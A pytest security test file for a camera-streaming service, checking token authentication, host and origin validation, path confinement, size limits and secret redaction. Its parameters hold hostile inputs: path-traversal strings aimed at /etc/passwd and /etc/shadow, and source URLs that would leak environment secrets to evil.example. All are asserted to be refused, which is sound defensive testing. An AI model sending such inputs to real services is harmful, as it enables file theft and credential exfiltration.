"""Who may do what: token, hosts, origins, paths, sizes; and no secret in anything that leaves the process."""

from __future__ import annotations

import http.client
import logging
import shutil
import socket
import ssl
import subprocess
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from serve_site import Site, StartSite

from sluice.app.serve.client import Client, ServiceError
from sluice.app.serve.names import allowed_model, models_in
from sluice.app.serve.paths import OutsideError
from sluice.errors import ConfigurationError

TOKEN = "correct-horse-battery-staple"
WITH_TOKEN = """
streams: [{name: lobby, source: 'rtsp://viewer:${ENV:CAM}@cam/1'}]
http: {port: 0, token: '${ENV:TOKEN}', references: ['ENV:GIVEN']}
"""


@pytest.fixture
def guarded(start_site: StartSite) -> Site:
    """A service with a token and a camera with a password."""
    return start_site(WITH_TOKEN, {"TOKEN": TOKEN, "CAM": "hunter2/of@door", "GIVEN": "given-secret"})


def test_nothing_but_health_and_the_page_is_shown_without_the_token(guarded: Site) -> None:
    with guarded.client() as client:
        document = client.get("/openapi.json", headers={"Authorization": f"Bearer {TOKEN}"}).json()
        for path, operations in document["paths"].items():
            for method in operations:
                answer = client.request(method, path.replace("{name}", "lobby").replace("{session}", "s"))
                wanted = {"/healthz": 200, "/readyz": 200, "/api/session": 422 if method == "post" else 204}
                assert answer.status_code == wanted.get(path, 401), path
        assert client.get("/openapi.json").status_code == 401
        assert client.get("/").status_code == client.get("/page/main.js").status_code == 200
        refused = client.get("/api/streams")
        assert refused.headers["www-authenticate"] == "Bearer"
        assert "Authorization: Bearer TOKEN" in refused.json()["detail"]


@pytest.mark.parametrize(
    "given", ["", "Bearer", "Bearer wrong", f"Basic {TOKEN}", f"Bearer {TOKEN}x", "Bearer \xff\xfe"]
)
def test_a_wrong_token_is_refused(guarded: Site, given: str) -> None:
    with guarded.client() as client:
        assert client.get("/api/streams", headers={"Authorization": given.encode("latin-1")}).status_code == 401


def test_the_command_line_says_where_it_takes_the_token_from(guarded: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SLUICE_TOKEN", "wrong")
    with pytest.raises(ServiceError, match="in SLUICE_TOKEN or by --token-file"):
        Client(guarded.url).streams()


def test_the_token_is_taken_in_the_header_and_never_in_the_url(guarded: Site) -> None:
    with guarded.client(TOKEN) as client:
        assert client.get("/api/streams").status_code == 200
    with guarded.client() as client:
        assert client.get("/api/streams", params={"token": TOKEN}).status_code == 401


def test_the_page_gives_the_token_once_and_has_a_cookie_that_does_not_tell_it(guarded: Site) -> None:
    with guarded.client() as client:
        assert client.post("/api/session", json={"token": "wrong"}).status_code == 401
        entered = client.post("/api/session", json={"token": TOKEN})
        assert entered.status_code == 204
        cookie = entered.headers["set-cookie"]
        assert "HttpOnly" in cookie
        assert "samesite=strict" in cookie.lower()
        assert TOKEN not in cookie
        assert client.get("/api/streams").status_code == 200
        assert client.delete("/api/session").status_code == 204
        assert client.get("/api/streams").status_code == 401


@pytest.mark.parametrize("host", ["evil.example", "localhost.evil.example", "127.0.0.1.evil.example", "", "[", "a b"])
def test_a_name_that_was_made_to_mean_this_machine_is_refused(site: Site, host: str) -> None:
    with site.client(Host=host) as client:
        answer = client.get("/api/streams")
    assert answer.status_code in (400, 421)
    assert b"lobby" not in answer.content


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "[::1]", "192.0.2.7", "cams.example"])
def test_addresses_and_names_that_are_allowed_are_answered(start_site: StartSite, host: str) -> None:
    site = start_site("http: {port: 0, allowed_hosts: [cams.example]}")
    with site.client(Host=f"{host}:{urlsplit(site.url).port}") as client:
        assert client.get("/api/streams").status_code == 200


def test_a_page_of_another_origin_can_neither_change_nor_show_anything(site: Site) -> None:
    stream = {"source": "test:snow", "name": "planted"}
    with site.client() as client:
        for headers in (
            {"Origin": "https://evil.example"},
            {"Origin": "null"},
            {"Origin": "http://127.0.0.1:1"},
            {"Sec-Fetch-Site": "cross-site"},
            {"Sec-Fetch-Site": "same-site"},
        ):
            assert client.post("/api/streams", json=stream, headers=headers).status_code == 403
            assert client.get("/api/streams/lobby/snapshot.jpg", headers=headers).status_code == 403
        link = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}
        assert client.get("/", headers=link).status_code == 200
        assert client.get("/api/streams", headers=link).status_code == 403
        own = {"Origin": site.url, "Sec-Fetch-Site": "same-origin"}
        assert client.post("/api/streams", json=stream, headers=own).status_code == 201
    assert list(site.engine.sources) == ["lobby", "planted"]


@pytest.mark.parametrize("origin", ["http://[", "null", "http://", "", "://", "http://[::1", "\x80"])
def test_an_origin_that_is_none_is_another_one(site: Site, origin: str) -> None:
    with site.client() as client:
        headers = {b"Origin": origin.encode("latin-1")}
        assert client.get("/api/streams", headers=headers).status_code == 403


def test_a_form_of_another_page_cannot_be_taken_for_json(site: Site) -> None:
    text = b'{"source": "test:snow", "name": "planted"}'
    with site.client() as client:
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
            assert client.post("/api/streams", content=text, headers={"Content-Type": kind}).status_code in (400, 422)
    assert "planted" not in site.engine.sources


def test_nothing_is_changed_by_reading(site: Site) -> None:
    with site.client() as client:
        document = client.get("/openapi.json").json()
        before = (dict(site.engine.sources), list(site.engine.restarts), dict(site.engine.model))
        for path, operations in document["paths"].items():
            if "get" in operations and "live" not in path and path != "/api/events/stream":
                client.get(path.replace("{name}", "lobby"))
        for path in ("/api/streams/lobby/restart", "/api/models/swap"):
            assert client.get(path).status_code in (404, 405)
        assert before == (site.engine.sources, site.engine.restarts, site.engine.model)


def test_answers_have_the_headers_that_keep_a_browser_on_its_guard(site: Site) -> None:
    with site.client() as client:
        for path in ("/", "/page/main.js", "/api/streams", "/api/nothing"):
            headers = client.get(path).headers
            assert "default-src 'none'" in headers["content-security-policy"]
            assert "frame-ancestors 'none'" in headers["content-security-policy"]
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["cross-origin-resource-policy"] == "same-origin"
            assert "server" not in headers


@pytest.fixture
def fenced(start_site: StartSite, tmp_path: Path) -> Site:
    """A service whose callers may use one folder, beside which lies a secret."""
    media = tmp_path / "media"
    media.mkdir()
    (media / "inside.mp4").write_bytes(b"video")
    (media / "model.py").write_text("def infer(frames): return []")
    (tmp_path / "secret.mp4").write_bytes(b"secret")
    (tmp_path / "secret.py").write_text("")
    (media / "link.mp4").symlink_to(tmp_path / "secret.mp4")
    (media / "up").symlink_to(tmp_path)
    return start_site(f"directories: {{media: [{media}], models: [{media}]}}")


@pytest.mark.parametrize(
    "source",
    [
        "{root}/secret.mp4",
        "../secret.mp4",
        "{root}/media/../secret.mp4",
        "{root}/media/link.mp4",
        "{root}/media/up/secret.mp4",
        "file://{root}/secret.mp4",
        "FILE://{root}/secret.mp4",
        "file://localhost{root}/secret.mp4",
        "file:{root}/secret.mp4",
        "file://{root}/media/%2e%2e/secret.mp4",
        "file://{root}/media/../secret.mp4",
        "file://elsewhere{root}/media/inside.mp4",
        "{root}/media/*.mp4",
        "~/secret.mp4",
        "/etc/passwd",
        "/dev/zero",
        "v4l2:/etc/passwd",
        "v4l2:///dev/../etc/passwd",
        "v4l2:/dev/video0/../../etc/passwd",
        "inside.mp4\x00.jpg",
        "a:../secret.mp4",
        "TEST:../../secret.mp4",
        "v4l2:../secret.mp4",
    ],
)
def test_no_source_leaves_the_directories(fenced: Site, source: str) -> None:
    with fenced.client() as client:
        answer = client.post("/api/streams", json={"source": source.format(root=fenced.folder), "name": "a"})
    assert answer.status_code == 403, answer.text
    assert "a" not in fenced.engine.sources


@pytest.mark.parametrize("source", ["{root}/media/inside.mp4", "inside.mp4", "file://{root}/media/inside.mp4", "."])
def test_a_source_inside_is_taken_with_its_real_path(fenced: Site, source: str) -> None:
    with fenced.client() as client:
        answer = client.post("/api/streams", json={"source": source.format(root=fenced.folder), "name": "a"})
    assert answer.status_code == 201, answer.text
    assert fenced.engine.sources["a"] == str(fenced.folder / "media" / ("" if source == "." else "inside.mp4"))


@pytest.mark.parametrize(
    "model", ["{root}/secret.py", "../secret.py", "{root}/secret.py:Thing", "os:system", "/etc/passwd", "secret", ""]
)
def test_no_model_leaves_the_directories(fenced: Site, model: str) -> None:
    with fenced.client() as client:
        answer = client.post("/api/models/swap", json={"model": model.format(root=fenced.folder)})
    assert answer.status_code in (403, 422)
    assert fenced.engine.model["name"] == "none"


def test_a_model_inside_is_taken_and_listed(fenced: Site) -> None:
    with fenced.client() as client:
        assert "model.py" in client.get("/api/models").json()["available"]
        assert client.post("/api/models/swap", json={"model": "model.py:infer"}).status_code == 202
    assert fenced.engine.model["name"] == f"{fenced.folder}/media/model.py:infer"


@pytest.mark.parametrize(
    "path",
    ["/page/../web.py", "/page/%2e%2e/web.py", "/page/..%2fweb.py", "/page//etc/passwd", "/page/%2fetc%2fpasswd"],
)
def test_no_file_outside_the_page_is_served(site: Site, path: str) -> None:
    connection = http.client.HTTPConnection(urlsplit(site.url).netloc, timeout=10)
    connection.request("GET", path)  # as it stands: httpx would tidy it
    answer = connection.getresponse()
    assert answer.status in (404, 405)
    assert b"def make_app" not in answer.read()
    connection.close()


def test_a_body_that_is_too_large_is_refused_said_or_not(site: Site) -> None:
    whole = b'{"source": "test:snow", "name": "planted"}' + b" " * 200_000
    json_type = {"Content-Type": "application/json"}
    with site.client() as client:
        said = client.post("/api/streams", content=whole, headers=json_type)
        unsaid = client.post("/api/streams", content=iter([whole[:50_000]] * 4), headers=json_type)
        padded = client.post(
            "/api/streams", content=iter([whole[i : i + 42] for i in range(0, 100_000, 42)]), headers=json_type
        )
    assert [said.status_code, unsaid.status_code, padded.status_code] == [413, 413, 413]
    assert "64 KiB" in unsaid.json()["detail"]
    assert "planted" not in site.engine.sources


@pytest.mark.parametrize(
    "raw",
    [b"NONSENSE\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", b"\x16\x03\x01"],
)
def test_what_is_no_http_does_no_harm(site: Site, raw: bytes) -> None:
    address = urlsplit(site.url)
    with socket.create_connection((address.hostname, address.port), timeout=10) as connection:
        connection.sendall(raw)
        connection.shutdown(socket.SHUT_WR)
        assert b"200 OK" not in connection.recv(65536)
    with site.client() as client:
        assert client.get("/healthz").status_code == 200


@pytest.mark.parametrize(
    "text", ['{"source": ' * 9000, "[" * 60_000, '{"name": "\\ud800", "source": "test:ball"}', "nan", "\x00"]
)
def test_json_that_is_nested_or_odd_is_refused(site: Site, text: str) -> None:
    with site.client() as client:
        answer = client.post("/api/streams", content=text, headers={"Content-Type": "application/json"})
        assert answer.status_code in (400, 413, 422)
        assert client.get("/healthz").status_code == 200


def test_secrets_are_in_no_answer_and_no_log(guarded: Site, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    secrets = ["hunter2", TOKEN, "given-secret", "typed-secret", "query-secret"]
    texts: list[str] = []

    def keep(answer: httpx.Response) -> httpx.Response:
        texts.append(answer.text + str(answer.headers))
        return answer

    with guarded.client(TOKEN) as client:
        keep(
            client.post("/api/streams", json={"source": "rtsp://u:typed-secret@cam/2?token=query-secret", "name": "b"})
        )
        keep(client.post("/api/streams", json={"source": "rtsp://u:${ENV:GIVEN}@cam/3", "name": "c"}))
        keep(client.post("/api/streams", json={"source": "wrong://u:typed-secret@cam/3", "name": "d"}))
        keep(client.post("/api/streams", json={"source": "rtsp://u:typed-secret@cam/2", "name": "b"}))
        keep(client.post("/api/streams", json={"source": "rtsp://u:typed-secret@cam/2", "name": "b b"}))
        keep(client.post("/api/models/swap", json={"model": "http://u:typed-secret@host/model.onnx"}))
        guarded.engine.events.add("stream-lost", "b", "given-secret was refused", source="rtsp://u:typed-secret@cam")
        guarded.service.note("state-not-kept", None, f"{TOKEN} rtsp://u:typed-secret@cam")
        for path in ("/api/streams", "/api/events", "/api/statistics", "/api/models", "/openapi.json", "/metrics"):
            keep(client.get(path))
    assert guarded.engine.sources["c"] == "rtsp://u:given-secret@cam/3"
    assert guarded.engine.sources["lobby"] == "rtsp://viewer:hunter2%2Fof%40door@cam/1"
    for secret in secrets:
        assert [text for text in texts if secret in text] == []
        assert [line for line in caplog.messages if secret in line] == []


def test_a_caller_cannot_send_the_services_secrets_elsewhere(guarded: Site) -> None:
    with guarded.client(TOKEN) as client:
        for source in ("http://evil.example/${ENV:CAM}", "http://evil.example/${FILE:/etc/shadow}", "rtsp://a/${X}"):
            answer = client.post("/api/streams", json={"source": source, "name": "leak"})
            assert answer.status_code == 422
            assert "http.references" in answer.json()["detail"]
    assert "leak" not in guarded.engine.sources


def test_the_state_is_readable_by_its_owner_only_and_keeps_references(guarded: Site) -> None:
    with guarded.client(TOKEN) as client:
        client.post("/api/streams", json={"source": "rtsp://u:${ENV:GIVEN}@cam/3", "name": "c"})
    path = guarded.folder / "state.json"
    assert path.stat().st_mode & 0o777 == 0o600
    assert "${ENV:GIVEN}" in path.read_text()
    assert "given-secret" not in path.read_text()
    assert [found.name for found in guarded.folder.iterdir()] == ["state.json"]


def test_https_is_served_with_the_certificate_of_the_configuration(start_site: StartSite, tmp_path: Path) -> None:
    openssl = shutil.which("openssl")
    if openssl is None:
        pytest.skip("no openssl: apt-get install openssl")
    key, certificate = tmp_path / "key.pem", tmp_path / "cert.pem"
    command = [openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", certificate]
    subprocess.run([*command, "-subj", "/CN=localhost", "-addext", "subjectAltName=IP:127.0.0.1"], check=True)
    site = start_site(f"http: {{port: 0, token: {TOKEN}, tls: {{certificate: cert.pem, key: key.pem}}}}")
    assert site.url.startswith("https://")
    with httpx.Client(base_url=site.url, verify=ssl.create_default_context(cafile=str(certificate))) as client:
        assert client.get("/healthz").status_code == 200
        assert "Secure" in client.post("/api/session", json={"token": TOKEN}).headers["set-cookie"]
        assert client.get("/api/streams").status_code == 200
    with pytest.raises(ConfigurationError, match=r"http\.tls"):
        start_site("http: {port: 0, tls: {certificate: key.pem, key: cert.pem}}")


def test_models_that_are_offered_are_no_lists_of_labels(tmp_path: Path) -> None:
    (tmp_path / "labels.txt").write_text("person\nbicycle\n")
    (tmp_path / "config.yml").write_text("# nvinfer\nproperty:\n  onnx-file: a.onnx\n")
    (tmp_path / "config.txt").write_text("[property]\nonnx-file=a.onnx\n")
    (tmp_path / "a.onnx").write_bytes(b"")
    assert list(models_in([tmp_path])) == ["a.onnx", "config.txt", "config.yml"]


def test_a_model_that_may_not_be_used_is_refused_with_each_that_may_once() -> None:
    with pytest.raises(OutsideError, match=r"right are people, none, mine\.py, a file in directories\.models"):
        allowed_model("other", ["people", "mine.py", "mine.py"], [])
